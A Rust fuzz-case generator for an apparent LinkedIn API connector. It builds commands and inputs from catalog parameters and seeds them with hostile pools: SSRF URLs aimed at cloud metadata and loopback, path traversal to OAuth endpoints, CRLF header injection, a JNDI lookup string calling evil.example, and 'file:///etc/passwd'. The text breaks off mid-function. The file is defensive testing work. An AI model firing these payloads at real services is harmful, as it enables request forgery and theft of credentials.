//! What a fuzz case asks the component: a command name, an input, and the host's secrets and
//! settings. Commands and their parameters come from the catalog the component exports, so a
//! new command or parameter is fuzzed without touching this file. Values are drawn from pools:
//! the parameter's own example (as is or mutated), values shaped after the parameter's type and
//! name (URNs for `author`, URLs for `sourceUrl`), and hostile values of every kind.

use std::collections::BTreeMap;
use std::path::Path;

use anyhow::{Result, bail};
use base64::Engine as _;
use serde_json::{Map, Value, json};

use super::rng::Rng;
use crate::runtime::HostConfig;

/// The access token and client secret every case that has them runs with: distinctive, with the
/// characters that change under JSON escaping (`/`) and percent-encoding (`/`, `+`, `=`), so a
/// leak in any of those forms is recognisable.
pub const TOKEN: &str = "AQVfuzz/tok+en_9.x=";
pub const CLIENT_SECRET: &str = "fuzz/sec+ret";

/// The wall clock cases start from (2026-12-01), moved by up to a year either way per case.
const NOW_MS: u64 = 1_796_083_200_000;

/// A command parameter as the catalog describes it.
#[derive(Clone, Debug)]
pub struct Param {
    pub name: String,
    /// `string`, `integer`, `boolean`, `object` or `array`.
    pub kind: String,
    pub required: bool,
    pub enum_values: Vec<String>,
    pub example: Option<Value>,
}

/// A command and its parameters.
#[derive(Clone, Debug)]
pub struct CommandSpec {
    pub name: String,
    pub params: Vec<Param>,
}

/// The commands the component exports, read from its catalog, and known good inputs.
#[derive(Clone, Debug)]
pub struct Catalog {
    pub commands: Vec<CommandSpec>,
    /// Inputs of the replay fixtures, by command: real inputs that pass the command's checks,
    /// which plausible cases start from half the time (a seed corpus).
    pub seeds: BTreeMap<String, Vec<Map<String, Value>>>,
}

impl Catalog {
    /// From the catalog as [`crate::docs::catalog`] renders it.
    pub fn from_json(catalog: &Value) -> Result<Catalog> {
        let mut commands = Vec::new();
        for command in catalog["commands"].as_array().into_iter().flatten() {
            let params = command["params"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|p| Param {
                    name: p["name"].as_str().unwrap_or_default().to_string(),
                    kind: p["type"].as_str().unwrap_or("string").to_string(),
                    required: p["required"].as_bool().unwrap_or(false),
                    enum_values: p["enum"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .filter_map(|v| v.as_str().map(str::to_string))
                        .collect(),
                    example: Some(p["example"].clone()).filter(|v| !v.is_null()),
                })
                .collect();
            commands.push(CommandSpec {
                name: command["name"].as_str().unwrap_or_default().to_string(),
                params,
            });
        }
        if commands.is_empty() {
            bail!("the catalog lists no commands");
        }
        Ok(Catalog {
            commands,
            seeds: BTreeMap::new(),
        })
    }

    /// Adds the object inputs of the fixtures under `dir` that expect success, as seeds.
    pub fn with_fixture_inputs(mut self, dir: &Path) -> Catalog {
        let files = crate::fixture::collect(&[dir.to_path_buf()]).unwrap_or_default();
        for file in files {
            let Ok(case) = crate::fixture::load(&file) else {
                continue;
            };
            if let (Ok(Value::Object(input)), crate::fixture::Expect::Ok(_), None) =
                (case.input_value(), &case.expect, &case.input_text)
            {
                let seeds = self.seeds.entry(case.command.clone()).or_default();
                if !seeds.contains(&input) {
                    seeds.push(input);
                }
            }
        }
        self
    }

    pub fn command(&self, name: &str) -> Option<&CommandSpec> {
        self.commands.iter().find(|c| c.name == name)
    }
}

/// One case: everything the component is given.
#[derive(Clone, Debug)]
pub struct Case {
    pub seed: u64,
    pub command: String,
    /// The input text handed to `execute` (usually a JSON object, sometimes not JSON at all).
    pub input: String,
    pub config: HostConfig,
    /// Whether the server mostly answers as LinkedIn does when all is well (so that a command
    /// gets through all of its requests), or throws anything at every request.
    pub calm_server: bool,
}

/// The case with this seed. Two in five cases are plausible: a real command, a working host,
/// a fixture's input or the command's required parameters with values that pass its checks,
/// now and then one of them hostile, and a server that mostly says yes; these reach the
/// requests and the answers. The others are anything at all: these try the input checks.
pub fn case(seed: u64, catalog: &Catalog) -> Case {
    let mut rng = Rng::new(seed);
    let spec = rng.pick(&catalog.commands).clone();
    if rng.percent(40) {
        let config = working_host(&mut rng);
        let seeds = catalog.seeds.get(&spec.name).filter(|s| !s.is_empty());
        let mut input = match seeds {
            Some(seeds) if rng.percent(50) => {
                let mut input = rng.pick(seeds).clone();
                if !spec.params.is_empty() && rng.percent(33) {
                    let param = rng.pick(&spec.params);
                    input.insert(param.name.clone(), param_value(&mut rng, param));
                }
                input
            }
            _ => plausible_input(&mut rng, &spec),
        };
        coherent(&mut rng, &mut input, config.client_secret.as_deref());
        return Case {
            seed,
            command: spec.name.clone(),
            input: Value::Object(input).to_string(),
            config,
            calm_server: rng.percent(75),
        };
    }
    let config = host_config(&mut rng);
    let command = command_name(&mut rng, &spec.name);
    // A name that is not a command still gets an input shaped like some command's.
    let mut input = structured_input(&mut rng, &spec);
    coherent(&mut rng, &mut input, config.client_secret.as_deref());
    let input = if rng.percent(12) {
        raw_text(&mut rng, &input)
    } else {
        Value::Object(input).to_string()
    };
    Case {
        seed,
        command,
        input,
        config,
        calm_server: rng.percent(20),
    }
}

// ---------------------------------------------------------------------------------------------
// The host: secrets and settings

/// A host with the account connected and settings that work.
fn working_host(rng: &mut Rng) -> HostConfig {
    let mut config = host_config(rng);
    config.access_token = Some(TOKEN.to_string());
    if rng.percent(85) {
        config.client_secret = Some(CLIENT_SECRET.to_string());
    }
    let version = config.settings.get("linkedinVersion");
    if version.is_some_and(|v| v.len() < 6 || !v.bytes().take(6).all(|b| b.is_ascii_digit())) {
        config.settings.remove("linkedinVersion");
    }
    if config
        .settings
        .get("clientId")
        .is_some_and(|id| id != "86abc7xyzfuzz")
    {
        config.settings.remove("clientId");
    }
    config
}

fn host_config(rng: &mut Rng) -> HostConfig {
    let access_token = match rng.weighted(&[90, 5, 5]) {
        0 => Some(TOKEN.to_string()),
        1 => None,
        _ => Some(String::new()),
    };
    let client_secret = match rng.weighted(&[70, 20, 10]) {
        0 => Some(CLIENT_SECRET.to_string()),
        1 => None,
        _ => Some(String::new()),
    };
    let mut settings = std::collections::BTreeMap::new();
    match rng.weighted(&[55, 25, 20]) {
        0 => {
            let valid = ["202609", "202601", "202506", "202609.01", "202411"];
            settings.insert("linkedinVersion".into(), rng.pick(&valid).to_string());
        }
        1 => {
            let invalid = [
                "2026-09",
                "abc",
                "",
                " ",
                "20260",
                "2026091",
                "202609.1",
                "202613",
                "000000",
                "999999",
                "202609\r\nX-Injected: 1",
                "１２３４５６",
                "202609 ",
                "-20260",
            ];
            settings.insert("linkedinVersion".into(), rng.pick(&invalid).to_string());
        }
        _ => {}
    }
    match rng.weighted(&[40, 10, 50]) {
        0 => {
            settings.insert("clientId".into(), "86abc7xyzfuzz".into());
        }
        1 => {
            let odd = ["", " ", "a&token=b", "x\r\ny", "é", "86abc&client_secret=x"];
            settings.insert("clientId".into(), rng.pick(&odd).to_string());
        }
        _ => {}
    }
    let year_ms = 365 * 24 * 3600 * 1000;
    HostConfig {
        access_token,
        client_secret,
        settings,
        now: Some(NOW_MS - year_ms + rng.below(2 * year_ms)),
    }
}

// ---------------------------------------------------------------------------------------------
// Command names

fn command_name(rng: &mut Rng, name: &str) -> String {
    match rng.weighted(&[85, 10, 5]) {
        0 => name.to_string(),
        1 => near_miss(rng, name),
        _ => {
            let names = [
                "",
                " ",
                "describe",
                "execute",
                "execute-json",
                "commands",
                "../create-post",
                "create-post\n",
                "CREATE-POST",
                "null",
                "{}",
                "\u{0}",
                "custom_action",
                "🙂",
            ];
            if rng.percent(50) {
                rng.pick(&names).to_string()
            } else {
                random_text(rng, 40)
            }
        }
    }
}

/// A name one slip away from a real one.
fn near_miss(rng: &mut Rng, name: &str) -> String {
    match rng.below(9) {
        0 => name.to_uppercase(),
        1 => name.replace('-', "_"),
        2 => format!("{name}s"),
        3 => name[..name.len().saturating_sub(1)].to_string(),
        4 => format!(" {name}"),
        5 => format!("{name} "),
        6 => format!("{name}\u{0}"),
        7 => name.replace('-', "\u{2010}"),
        _ => format!("commands.{name}"),
    }
}

// ---------------------------------------------------------------------------------------------
// Structured inputs

/// An input object built from the command's parameters: most of them, sometimes without a
/// required one, sometimes with keys the command does not take.
fn structured_input(rng: &mut Rng, spec: &CommandSpec) -> Map<String, Value> {
    let mut input = Map::new();
    for param in &spec.params {
        let include = if param.required { 92 } else { 45 };
        if rng.percent(include) {
            input.insert(param.name.clone(), param_value(rng, param));
        }
    }
    if rng.percent(12) {
        for _ in 0..rng.between(1, 3) {
            let key = extra_key(rng, spec);
            input.insert(key, any_value(rng, 0));
        }
    }
    input
}

fn extra_key(rng: &mut Rng, spec: &CommandSpec) -> String {
    let keys = [
        "linkedinVersion",
        "__proto__",
        "",
        "Path",
        "AUTHOR",
        "accessToken",
        "clientSecret",
        "unknown",
        "ключ",
        "a.b",
        "media[0]",
    ];
    match rng.below(3) {
        0 if !spec.params.is_empty() => {
            let name = &rng.pick(&spec.params).name;
            if rng.percent(50) {
                name.to_uppercase()
            } else {
                format!("{name}_")
            }
        }
        1 => "k".repeat(rng.between(1, 300) as usize),
        _ => rng.pick(&keys).to_string(),
    }
}

/// An input that passes the command's checks more often than not: every required parameter,
/// some optional ones, values from the examples and the valid pools; a third of the time one
/// of them is replaced by anything at all.
fn plausible_input(rng: &mut Rng, spec: &CommandSpec) -> Map<String, Value> {
    let mut input = Map::new();
    for param in &spec.params {
        if param.required || rng.percent(35) {
            input.insert(param.name.clone(), plausible_value(rng, param));
        }
    }
    if !spec.params.is_empty() && rng.percent(33) {
        let param = rng.pick(&spec.params);
        input.insert(param.name.clone(), param_value(rng, param));
    }
    input
}

fn plausible_value(rng: &mut Rng, param: &Param) -> Value {
    if !param.enum_values.is_empty() {
        let value = rng.pick(&param.enum_values);
        return Value::String(if rng.percent(20) {
            value.to_lowercase()
        } else {
            value.clone()
        });
    }
    let name = param.name.to_ascii_lowercase();
    match name.as_str() {
        "linkedinversion" => return Value::String("202609".into()),
        "media" => return media_items(rng, true),
        "text" => return Value::String(rng.pick(&POST_TEXTS[..3]).to_string()),
        "waitseconds" => return json!(rng.pick(&[0, 1, 5, 30, 60, 600])),
        "data" if rng.percent(50) => {
            let size = small_file_size(rng) as usize;
            return Value::String(
                base64::engine::general_purpose::STANDARD.encode(rng.bytes(size)),
            );
        }
        _ => {}
    }
    if let Some(example) = &param.example
        && rng.percent(80)
    {
        return example.clone();
    }
    if name.ends_with("url") {
        return Value::String(rng.pick(PUBLIC_URLS).to_string());
    }
    if name.contains("urn") || ["author", "owner", "mediaid", "lead", "id"].contains(&name.as_str())
    {
        return Value::String(rng.pick(VALID_URNS).to_string());
    }
    match param.kind.as_str() {
        "integer" => json!(rng.pick(&[0, 1, 16, 1000, 4_194_304])),
        "boolean" => Value::Bool(rng.percent(50)),
        _ => shaped(rng, param),
    }
}

/// A value for `param`: shaped after its type and name, its example, or anything at all.
fn param_value(rng: &mut Rng, param: &Param) -> Value {
    match rng.weighted(&[50, 20, 30]) {
        0 => shaped(rng, param),
        1 => match &param.example {
            Some(example) if rng.percent(50) => example.clone(),
            Some(example) => mutate(rng, example, 0),
            None => shaped(rng, param),
        },
        _ => any_value(rng, 0),
    }
}

/// A value that looks right for the parameter, going by its enum, name and type.
fn shaped(rng: &mut Rng, param: &Param) -> Value {
    if !param.enum_values.is_empty() {
        return Value::String(enum_value(rng, &param.enum_values));
    }
    let name = param.name.to_ascii_lowercase();
    match name.as_str() {
        "linkedinversion" => return Value::String(rng.pick(VERSIONS).to_string()),
        "path" => return Value::String(rng.pick(API_PATHS).to_string()),
        "data" => return Value::String(base64_text(rng)),
        "contenttype" => return Value::String(rng.pick(CONTENT_TYPES).to_string()),
        "text" => return Value::String(post_text(rng)),
        "challengecode" => return Value::String(challenge_code(rng)),
        "headers" => return header_object(rng),
        "query" => return query_object(rng),
        "media" => return media_items(rng, false),
        "mediasource" => return media_source(rng),
        "uploadinstructions" => {
            let total = file_size(rng);
            return upload_instructions(rng, total);
        }
        "body" if param.kind == "string" => return Value::String(notification_body(rng)),
        "uploadtoken" => return Value::String(rng.pick(&["", "tok-1", "a b", "%2F"]).to_string()),
        _ => {}
    }
    if name.ends_with("url") {
        return Value::String(url(rng));
    }
    if name.contains("urn") || ["author", "owner", "mediaid", "lead", "id"].contains(&name.as_str())
    {
        return Value::String(urn(rng));
    }
    match param.kind.as_str() {
        "integer" => number(rng),
        "boolean" => Value::Bool(rng.percent(50)),
        "object" => nested(rng, 1, true),
        "array" => nested(rng, 1, false),
        _ => Value::String(string(rng)),
    }
}

/// An enum value in some letter case, now and then a near miss.
fn enum_value(rng: &mut Rng, values: &[String]) -> String {
    let value = rng.pick(values).clone();
    match rng.weighted(&[40, 20, 20, 5, 15]) {
        0 => value,
        1 => value.to_lowercase(),
        2 => value.to_uppercase(),
        3 => format!("{value} "),
        _ => near_miss(rng, &value),
    }
}

/// Anything: a hostile string, a URN, a URL, a number, a boolean, null, an empty string, a
/// nested object or array, a header object, base64.
fn any_value(rng: &mut Rng, depth: usize) -> Value {
    match rng.weighted(&[20, 10, 10, 10, 5, 5, 5, 8, 8, 5, 6, 4, 4]) {
        0 => Value::String(string(rng)),
        1 => Value::String(urn(rng)),
        2 => Value::String(url(rng)),
        3 => number(rng),
        4 => Value::Bool(rng.percent(50)),
        5 => Value::Null,
        6 => Value::String(String::new()),
        7 => nested(rng, depth + 1, true),
        8 => nested(rng, depth + 1, false),
        9 => header_object(rng),
        10 => Value::String(base64_text(rng)),
        11 => Value::String(rng.pick(API_PATHS).to_string()),
        _ => Value::String(random_text(rng, 64)),
    }
}

fn nested(rng: &mut Rng, depth: usize, object: bool) -> Value {
    if depth > 3 {
        return Value::String(string(rng));
    }
    let len = rng.index(4);
    if object {
        let keys = [
            "id",
            "a",
            "urn",
            "value",
            "uploadUrl",
            "elements",
            "",
            "text",
            "owner",
        ];
        (0..len)
            .map(|_| (rng.pick(&keys).to_string(), any_value(rng, depth)))
            .collect::<Map<_, _>>()
            .into()
    } else {
        (0..len).map(|_| any_value(rng, depth)).collect()
    }
}

/// `value` changed a little: keys dropped or added, values replaced, strings that hold JSON
/// changed inside.
fn mutate(rng: &mut Rng, value: &Value, depth: usize) -> Value {
    if depth > 4 {
        return value.clone();
    }
    match value {
        Value::Object(map) => {
            let mut out = Map::new();
            for (key, v) in map {
                match rng.weighted(&[50, 15, 20, 15]) {
                    0 => {
                        out.insert(key.clone(), v.clone());
                    }
                    1 => {}
                    2 => {
                        out.insert(key.clone(), mutate(rng, v, depth + 1));
                    }
                    _ => {
                        out.insert(key.clone(), any_value(rng, depth + 1));
                    }
                }
            }
            if rng.percent(20) {
                let key = rng.pick(&["id", "owner", "extra", "", "title"]).to_string();
                out.insert(key, any_value(rng, depth + 1));
            }
            Value::Object(out)
        }
        Value::Array(items) => {
            let mut out = Vec::new();
            for item in items {
                match rng.weighted(&[60, 15, 25]) {
                    0 => out.push(item.clone()),
                    1 => {}
                    _ => out.push(mutate(rng, item, depth + 1)),
                }
            }
            if let Some(first) = items.first()
                && rng.percent(25)
            {
                let copies = *rng.pick(&[1, 2, 19, 20, 21, 30]);
                out.extend(std::iter::repeat_n(first.clone(), copies));
            }
            Value::Array(out)
        }
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) if rng.percent(70) => {
                Value::String(mutate(rng, &inner, depth + 1).to_string())
            }
            _ if rng.percent(50) => Value::String(string(rng)),
            _ => any_value(rng, depth + 1),
        },
        Value::Number(_) => number(rng),
        _ => any_value(rng, depth + 1),
    }
}

// ---------------------------------------------------------------------------------------------
// Pools

const VERSIONS: &[&str] = &[
    "202609",
    "202601",
    "202609.01",
    "2026-09",
    "202613",
    "",
    "abc",
    "202609\n",
    "99999999",
];

/// Person, organization, post, media and lead URNs, well-formed and not: [`VALID_URNS`] first.
const URNS: &[&str] = &[
    "urn:li:person:782bbtaQ",
    "person:782bbtaQ",
    "urn:li:organization:2414183",
    "organization:5515715",
    "urn:li:share:7045020441609936898",
    "urn:li:ugcPost:7045020441609936899",
    "urn:li:activity:7045020441609936900",
    "urn:li:comment:(urn:li:activity:7045020441609936900,7045020441609936901)",
    "urn:li:image:C4E10AQFoyyAjHPMQuQ",
    "urn:li:video:C5505AQH-oV1qvnFtKA",
    "urn:li:document:D4D10AQH4bUe7Y3d0Bg",
    "urn:li:digitalmediaAsset:C5505AQH-oV1qvnFtKA",
    "urn:li:leadGenFormResponse:249592fc-d272-44ba-a7db-c2bdce579507-6",
    "249592fc-d272-44ba-a7db-c2bdce579507-6",
    "urn:li:versionedLeadGenForm:(urn:li:leadGenForm:7234246,1)",
    "urn:li:leadGenForm:7234246",
    "urn:li:sponsoredAccount:520866471",
    "urn:li:person:",
    "urn:li:person:a/b",
    "urn:li:person:..%2f..%2fv2%2fme",
    "urn:li:person:x?y=z",
    "urn:li:person:(a:b)",
    "urn:li:organization:-1",
    "urn:li:person:abc#frag",
    "URN:LI:PERSON:abc",
    "urn:li:person:a\r\nX-Injected: 1",
    "urn:li:person:\u{202e}abc",
    "urn:li:leadGenFormResponse:../../v2/me",
    "urn:li:leadGenFormResponse:a%2F..%2F..%2Fv2%2Fme",
    "urn:li:image:https://evil.example/x",
    "urn:li:video:List(a,b)",
    "urn:li:share:1 OR 1=1",
    "urn:li:person:@evil.example",
];

/// The well-formed URNs at the head of [`URNS`].
const VALID_URNS: &[&str] = URNS.split_at(17).0;

/// The public URLs at the head of [`URLS`].
const PUBLIC_URLS: &[&str] = URLS.split_at(5).0;

/// URLs to fetch from or upload to: LinkedIn's and public ones first, then every spelling of a
/// place a connector must not be sent to.
const URLS: &[&str] = &[
    "https://cdn.example.com/launch.mp4",
    "https://media.example.org/photo.png",
    "https://www.linkedin.com/dms-uploads/C4E10AQFoyyAjHPMQuQ/uploaded-image/0?ca=vector_feedshare&ut=2H-Ih%253D",
    "https://www.linkedin.com/dms-uploads/sp/v2/C5505AQH/uploaded-video/0?uploadId=f1%253D&partNumber=1",
    "https://api.linkedin.com/mediaUpload/C5505AQH/feedshare-uploadedVideo/0?ca=vector_feedshare",
    "http://0x7f.0x1/",
    "http://0x7f.1/video.mp4",
    "http://127.1/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://127.0.0.1:8080/admin",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.0xfe/latest/meta-data/",
    "http://0xa9fea9fe/",
    "http://10.0.0.1/",
    "http://192.168.1.1./",
    "http://0.0.0.0/",
    "http://0/",
    "http://[::1]/",
    "http://[::]/",
    "http://[::ffff:127.0.0.1]/",
    "https://[::ffff:a9fe:a9fe]/",
    "http://[fe80::1%25eth0]/",
    "http://localhost/",
    "http://LOCALHOST./",
    "http://a.localhost/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://printer.local/",
    "http://router.home.arpa/",
    "http://intranet/",
    "http://cdn.example.com.internal/",
    "https://%6c%6f%63%61%6c%68%6f%73%74/",
    "https://127.0.0.1.nip.io/",
    "https://ｌｏｃａｌｈｏｓｔ/",
    "https://cdn.test/x.png",
    "https://hidden.onion/x.png",
    "https://www.linkedin.com.evil.example/dms-uploads/x",
    "https://evil-linkedin.com/dms-uploads/x",
    "https://linkedin.com/dms-uploads/x",
    "https://www.linkedin.com/dms-uploads/../oauth/v2/accessToken",
    "https://www.linkedin.com/dms-uploads/%2e%2e/oauth/v2/accessToken",
    "https://www.linkedin.com/mediaUpload/..%2f..%2fv2/me",
    "https://www.linkedin.com/feed/",
    "http://www.linkedin.com/dms-uploads/x",
    "https://user:pw@www.linkedin.com/dms-uploads/x",
    "https://www.linkedin.com@evil.example/dms-uploads/x",
    "https://www.linkedin.com:444/dms-uploads/x",
    "https://www.linkedin.com\\@evil.example/dms-uploads/",
    "ftp://cdn.example.com/x",
    "file:///etc/passwd",
    "data:image/png;base64,iVBORw0KGgo=",
    "https://cdn.example.com/x#frag",
    "https://cdn.example.com/a b",
    "https://cdn.example.com/\r\nx",
    "//cdn.example.com/x",
    "cdn.example.com/x",
    "",
];

/// custom-action paths: ordinary ones and every trick for leaving the API.
const API_PATHS: &[&str] = &[
    "/v2/me",
    "/v2/userinfo",
    "/rest/posts",
    "/rest/organizationAcls?q=roleAssignee",
    "/rest/socialMetadata/urn%3Ali%3Ashare%3A7045020441609936898",
    "/rest/posts/urn%3Ali%3Ashare%3A7045020441609936898",
    "/rest/adAccounts?q=search&search=(status:(values:List(ACTIVE)))",
    "/v2/people/(id:abc)",
    "/rest/List(a,b)",
    "https://api.linkedin.com/v2/me",
    "https://api.linkedin.com:443/v2/me",
    "https://api.linkedin.com:8443/v2/me",
    "https://API.LINKEDIN.COM/v2/me",
    "https://api.linkedin.com./v2/me",
    "https://api%2elinkedin.com/v2/me",
    "https://user:pw@api.linkedin.com/v2/me",
    "https://api.linkedin.com@evil.example/v2/me",
    "https://api.linkedin.com.evil.example/v2/me",
    "http://api.linkedin.com/v2/me",
    "https://www.linkedin.com/oauth/v2/introspectToken",
    "https://0x7f.1/v2/me",
    "https://[::1]/v2/me",
    "/rest/../v2/me",
    "/rest/%2e%2e/v2/me",
    "/rest/%2E%2E%2Foauth/v2/accessToken",
    "/v2/me/..",
    "/v2/%2e%2e/%2e%2e/oauth/v2/accessToken",
    "//evil.example/v2/me",
    "/oauth/v2/accessToken",
    "/rest/posts?x=1#frag",
    "/rest/posts\r\nX-Injected: 1",
    "/rest/posts\\..\\x",
    "/rest/posts%00",
    "/rest/posts?token=x",
    "v2/me",
    "/v3/x",
    "/",
    "",
];

const CONTENT_TYPES: &[&str] = &[
    "image/png",
    "image/jpeg",
    "video/mp4",
    "application/pdf",
    "text/html",
    "image/png\r\nX-Injected: 1",
    "",
    "application/octet-stream",
    "image/svg+xml",
];

/// Hostile strings: traversal, CR/LF, NUL, Rest.li syntax, Unicode, very long.
fn string(rng: &mut Rng) -> String {
    const STRINGS: &[&str] = &[
        "/rest/../v2/me",
        "%2e%2e/%2e%2e/v2/me",
        "https://user:pw@evil.example/",
        "a\r\nX-Injected: 1",
        "a\nSet-Cookie: li_at=1",
        "a\u{0}b",
        "\u{0}",
        "List(",
        "List(a,b)",
        "(a:b)",
        "(a:List(b,c))",
        ")",
        "%",
        "%zz",
        "%00",
        "%0d%0a",
        "é日本語🙂",
        "\u{202e}abc",
        "\u{feff}",
        "\u{fffd}",
        " ",
        "{",
        "'\"",
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd",
        "\\\\evil\\share",
        "Launch day (v2) #rust",
        "null",
        "true",
        "0",
        "-1",
        "1e999",
    ];
    match rng.weighted(&[80, 10, 10]) {
        0 => rng.pick(STRINGS).to_string(),
        1 => long_string(rng),
        _ => random_text(rng, 40),
    }
}

fn long_string(rng: &mut Rng) -> String {
    // A megabyte costs a thousand ordinary cases: rare.
    let len = [2999, 3000, 3001, 10_000, 100_000, 1 << 20][rng.weighted(&[6, 6, 6, 6, 5, 1])];
    let unit = *rng.pick(&["a", "(", "é", "🙂", "%", "#tag "]);
    unit.repeat(len / unit.len().max(1) + 1)
}

/// Up to `max` random characters: ASCII, controls, and a few multi-byte ones.
fn random_text(rng: &mut Rng, max: usize) -> String {
    let len = rng.index(max + 1);
    (0..len)
        .map(|_| match rng.below(10) {
            0 => char::from_u32(rng.below(32) as u32).unwrap_or('?'),
            1 => *rng.pick(&['é', '日', '🙂', '\u{202e}', '\u{ffff}', '\u{10ffff}']),
            _ => char::from(rng.between(0x20, 0x7e) as u8),
        })
        .collect()
}

fn number(rng: &mut Rng) -> Value {
    let numbers = [
        json!(0),
        json!(1),
        json!(-1),
        json!(5),
        json!(60),
        json!(600),
        json!(601),
        json!(3000),
        json!(4_194_303),
        json!(4_194_304),
        json!(5_242_880),
        json!(1_650_567_510_704_u64),
        json!(4_102_444_800_000_u64),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e300),
        json!(1.5),
        json!(-0.0),
        json!(1e-7),
        json!("12"),
    ];
    rng.pick(&numbers).clone()
}

fn urn(rng: &mut Rng) -> String {
    if rng.percent(8) {
        return format!("urn:li:person:{}", "A".repeat(5000));
    }
    rng.pick(URNS).to_string()
}

fn url(rng: &mut Rng) -> String {
    rng.pick(URLS).to_string()
}

const POST_TEXTS: &[&str] = &[
    "Launch day (v2) #rust",
    "Hello @[Jane Doe](urn:li:person:abc) and @[Acme](urn:li:organization:1)",
    "\\|{}@[]()<>#*_~",
    "@[",
    "@[x](",
    "#",
    "{hashtag|\\#|rust}",
    "",
    "   ",
    "a\u{0}b",
    "line\r\nline",
];

fn post_text(rng: &mut Rng) -> String {
    match rng.weighted(&[70, 15, 15]) {
        0 => rng.pick(POST_TEXTS).to_string(),
        1 => "x".repeat(*rng.pick(&[2999, 3000, 3001])),
        _ => "🙂".repeat(*rng.pick(&[1500, 3000, 3001])),
    }
}

fn challenge_code(rng: &mut Rng) -> String {
    let codes = [
        "890e4665-4dfe-4ab1-b689-ed553bceeed0",
        "",
        "a=b",
        "a b",
        "hmacsha256=abc",
        "\u{0}",
    ];
    match rng.below(4) {
        0 => "c".repeat(*rng.pick(&[64, 128, 129, 4096])),
        _ => rng.pick(&codes).to_string(),
    }
}

/// The sizes of the files the fuzzer uploads and serves: the same few in inputs and answers,
/// so an upload's instructions and its source agree often enough to reach the upload itself.
const FILE_SIZES: &[u64] = &[0, 1, 16, 1000, 4_194_304, 4_194_305];

/// One of [`FILE_SIZES`]; the two past LinkedIn's 4 MiB part size rarely, as they cost a
/// hundred ordinary cases each.
pub fn file_size(rng: &mut Rng) -> u64 {
    FILE_SIZES[rng.weighted(&[10, 10, 10, 10, 1, 1])]
}

/// One of the small [`FILE_SIZES`].
fn small_file_size(rng: &mut Rng) -> u64 {
    *rng.pick(&FILE_SIZES[..4])
}

/// base64 text, valid and not.
fn base64_text(rng: &mut Rng) -> String {
    const TEXTS: &[&str] = &[
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "AAAAGGZ0eXBtcDQyaXNvbQ==",
        "",
        "====",
        "not base64!",
        "aGVsbG8",
        "aGVs bG8=",
        "aGVs\nbG8=",
        "-_-_",
        "data:image/png;base64,iVBORw0KGgo=",
        "=aGVsbG8",
    ];
    if rng.percent(30) {
        let size = small_file_size(rng) as usize;
        return base64::engine::general_purpose::STANDARD.encode(rng.bytes(size));
    }
    rng.pick(TEXTS).to_string()
}

/// Header objects, with the names a custom action must refuse among ordinary ones.
fn header_object(rng: &mut Rng) -> Value {
    let headers = [
        json!({"X-RestLi-Method": "PARTIAL_UPDATE"}),
        json!({"Accept-Language": "en-US"}),
        json!({"Connection": "close"}),
        json!({"Transfer-Encoding": "chunked"}),
        json!({"Keep-Alive": "timeout=5"}),
        json!({"Upgrade": "h2c"}),
        json!({"TE": "trailers"}),
        json!({"Trailer": "x"}),
        json!({"Proxy-Authorization": "Basic eDp5"}),
        json!({"Proxy-Connection": "keep-alive"}),
        json!({"Host": "evil.example"}),
        json!({"Authorization": "Bearer other"}),
        json!({"authorization": "Basic eDp5"}),
        json!({"LinkedIn-Version": "202401"}),
        json!({"linkedin-version": "202609"}),
        json!({"X-Restli-Protocol-Version": "1.0.0"}),
        json!({"Content-Length": "5"}),
        json!({"Expect": "100-continue"}),
        json!({"Cookie": "li_at=x"}),
        json!({"X-A": "a\r\nX-Injected: 1"}),
        json!({"bad name": "x"}),
        json!({"": "x"}),
        json!({"X-Num": 5, "X-Obj": {"a": 1}, "X-Null": null}),
        json!({"X-LI-Signature": "784c87b9a44b9df997f7700c06accf80b0e487124742d1471e779e132386db7c"}),
        json!([["X-A", "1"]]),
        json!("X-A: 1"),
    ];
    rng.pick(&headers).clone()
}

fn query_object(rng: &mut Rng) -> Value {
    let queries = [
        json!({"q": "roleAssignee", "state": "APPROVED"}),
        json!({"q": "search", "search": "(status:(values:List(ACTIVE)))"}),
        json!({"ids": "List(urn%3Ali%3Aperson%3A1,urn%3Ali%3Aperson%3A2)"}),
        json!({"ids": ["urn:li:person:1", "urn:li:person:2"]}),
        json!({"a": "List("}),
        json!({"a&b": "c=d", "e": "f#g"}),
        json!({"start": 0, "count": -1, "flag": true, "none": null}),
        json!({"x": {"nested": {"deep": [1, 2]}}}),
        json!({"": ""}),
        json!({"oauth_token": "\r\n"}),
    ];
    rng.pick(&queries).clone()
}

/// `media` items of create-post-with-media: media URNs (of one kind when `plausible`), with a
/// title, alt text, owner or source now and then.
fn media_items(rng: &mut Rng, plausible: bool) -> Value {
    let count = if plausible {
        *rng.pick(&[1, 1, 2, 3])
    } else {
        *rng.pick(&[0, 1, 1, 2, 3, 20, 21])
    };
    let kind = *rng.pick(&[
        "urn:li:image:C4E10AQFoyyAjHPMQuQ",
        "urn:li:video:C5505AQH-oV1qvnFtKA",
        "urn:li:document:D4D10AQH4bUe7Y3d0Bg",
    ]);
    (0..count)
        .map(|_| {
            let mut item = Map::new();
            let id = if plausible {
                kind.to_string()
            } else {
                urn(rng)
            };
            item.insert("id".into(), Value::String(id));
            if rng.percent(50) {
                item.insert("title".into(), Value::String(string(rng)));
            }
            if rng.percent(40) {
                item.insert("altText".into(), Value::String(string(rng)));
            }
            if rng.percent(20) {
                item.insert("owner".into(), Value::String(urn(rng)));
            }
            if rng.percent(15) {
                item.insert("source".into(), Value::String(url(rng)));
            }
            Value::Object(item)
        })
        .collect()
}

fn media_source(rng: &mut Rng) -> Value {
    let mut source = Map::new();
    match rng.weighted(&[45, 45, 10]) {
        0 => {
            source.insert("data".into(), Value::String(base64_text(rng)));
        }
        1 => {
            source.insert("sourceUrl".into(), Value::String(url(rng)));
        }
        _ => {
            source.insert("data".into(), Value::String(base64_text(rng)));
            source.insert("sourceUrl".into(), Value::String(url(rng)));
        }
    }
    if rng.percent(70) {
        source.insert(
            "contentType".into(),
            Value::String(rng.pick(CONTENT_TYPES).to_string()),
        );
    }
